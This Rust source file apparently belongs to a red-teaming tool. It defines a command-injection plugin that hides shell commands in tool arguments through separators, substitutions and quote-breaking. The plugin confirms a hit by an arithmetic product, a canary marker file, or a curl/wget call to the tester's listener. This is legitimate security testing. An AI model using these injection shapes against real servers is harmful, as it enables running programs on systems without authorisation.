//! Text that reaches a shell: commands hidden in arguments.

use super::reach;
use crate::attack::{Aim, Attack, Attempt, Bout, Brief, Facts, Field, Hit, Kind, Tried};
use crate::evidence::Observation;
use crate::finding::Severity;
use crate::registry::Meta;

pub(super) struct CommandInjection;

static META: Meta = Meta {
    id: "command-injection",
    aliases: &["shell-injection", "os-command-injection"],
    summary: "Text of an argument is run by a shell",
    docs: "\
# What it does
Hides small commands in every text that a tool takes: behind `;`, `|`, `&&`, a line break, in backticks and `$()`, bare and after
closing a quotation. The commands compute a product of two random numbers, write a marker into the canary ground, or connect to the
tester's own listener.

# Why it matters
Whoever writes the argument, or makes a model write it, runs programs as the user of the server.

# What counts as proof
The product of two random numbers that stands nowhere in the request; a marker file that appeared; a connection with the nonce of
the attempt. A text that merely repeats the payload proves nothing.

# Example
```yaml
redteam:
  plugins: [command-injection]
```

# References
- CWE-78, OWASP MCP05
",
    since: "0.1.0",
};

static FACTS: Facts = Facts {
    severity: Severity::Critical,
    cwe: &[78],
    frameworks: &["MCP05", "ASI05", "ASI02", "LLM05"],
    needs: &[],
};

const KINDS: [Kind; 8] = [
    Kind::Command,
    Kind::Host,
    Kind::Name,
    Kind::Path,
    Kind::Url,
    Kind::Filter,
    Kind::Pattern,
    Kind::Expression,
];

/// How a command gets out of the text around it: form, what stands before the command, and behind it.
const SHAPES: [(&str, &str, &str); 11] = [
    ("after a semicolon", ";", " #"),
    ("in a command substitution", "$(", ")"),
    ("in backticks", "`", "`"),
    ("after closing double quotes", "\";", " #"),
    ("after closing single quotes", "';", " #"),
    ("after a pipe", "|", " #"),
    ("after &&", "&& ", " #"),
    ("after a line break", "\n", "\n"),
    ("substituted after closing single quotes", "'$(", ")'"),
    ("after || and closing double quotes", "\" || ", " #"),
    ("after & on Windows", "& ", " & rem "),
];

impl Attack for CommandInjection {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn facts(&self) -> &'static Facts {
        &FACTS
    }

    fn aims(&self, field: &Field<'_>) -> Vec<Aim> {
        field.texts(&KINDS, false)
    }

    fn attempts(&self, aim: &Aim, brief: &Brief<'_>) -> Vec<Attempt> {
        let innocent = reach::innocent(aim).unwrap_or_default();
        let mut attempts = Vec::new();
        for (at, (form, before, behind)) in SHAPES.into_iter().enumerate() {
            let nonce = brief.nonce();
            let (a, b) = (brief.number(), brief.number());
            // `expr` exists everywhere, and its arguments are not the product.
            let mut command = format!("expr {a} \\* {b}");
            if behind.contains("rem") {
                command = format!("set /a {a}*{b}");
            } else if let Some(ground) = brief.ground {
                let marker = ground.drop.join(nonce.as_str());
                command = format!("{command}; echo {nonce} > {}", marker.display());
            }
            let payload = format!("{innocent}{before}{command}{behind}");
            let tried = reach::attempt(aim, (at, form), nonce, payload);
            attempts.extend(tried.map(|attempt| Attempt { role: (a * b).to_string(), ..attempt }));
        }
        if let Some(listener) = brief.listener {
            for (more, (form, before, behind)) in SHAPES.into_iter().take(7).enumerate() {
                let nonce = brief.nonce();
                let url = listener.url(&nonce);
                // One of them is installed nearly everywhere.
                let command = format!("curl -s -m 3 {url} || wget -q -T 3 -O - {url}");
                let payload = format!("{innocent}{before}{command}{behind}");
                let form = format!("{form}, blind");
                attempts.extend(reach::attempt(aim, (SHAPES.len() + more, &form), nonce, payload));
            }
        }
        attempts
    }

    fn detect(&self, bout: &Bout<'_>) -> Vec<Hit> {
        bout.tried
            .iter()
            .filter_map(|tried| proof(tried).map(|what| hit(bout, tried, what)))
            .collect()
    }
}

fn hit(bout: &Bout<'_>, tried: &Tried, what: String) -> Hit {
    let title = format!("{} is run by a shell ({})", bout.aim.place, tried.attempt.form);
    Hit::confirmed(title, what).by(tried).fault("shell")
}

fn proof(tried: &Tried) -> Option<String> {
    let nonce = tried.attempt.nonce.as_str();
    for observation in &tried.evidence.observations {
        match observation {
            Observation::File { path, content } if content.contains(nonce) => {
                return Some(format!("the file {} appeared with the mark {nonce}", path.display()));
            }
            Observation::Connection { request, .. } if request.contains(nonce) => {
                return Some(format!("the listener was connected to: {request}"));
            }
            _ => {}
        }
    }
    let product = &tried.attempt.role;
    let said = tried.said();
    (!product.is_empty() && said.contains(product.as_str()))
        .then(|| format!("the answer holds {product}, the product of two random numbers"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::testing::{Room, answers};

    #[test]
    fn the_product_in_an_answer_is_proof() {
        let room = Room::with_argument("ping", "host", "127.0.0.1");
        let hits = room.fight(&CommandInjection, |attempt| answers(&attempt.role));
        assert!(!hits.is_empty());
        assert!(hits[0].title.contains("ping.host"), "{}", hits[0].title);
    }

    #[test]
    fn an_answer_that_repeats_the_payload_is_none() {
        let room = Room::with_argument("ping", "host", "127.0.0.1");
        let echo = |attempt: &Attempt| {
            answers(&format!("no such host: {}", attempt.payload.as_ref().unwrap()))
        };
        assert!(room.fight(&CommandInjection, echo).is_empty());
    }

    #[test]
    fn a_marker_with_another_mark_is_none() {
        let room = Room::with_argument("ping", "host", "127.0.0.1");
        let hits = room.fight(&CommandInjection, |_| {
            let mut evidence = answers("ok");
            let (path, content) = ("/x".into(), "somethingelse".to_owned());
            evidence.observations.push(Observation::File { path, content });
            evidence
        });
        assert!(hits.is_empty());
    }
}
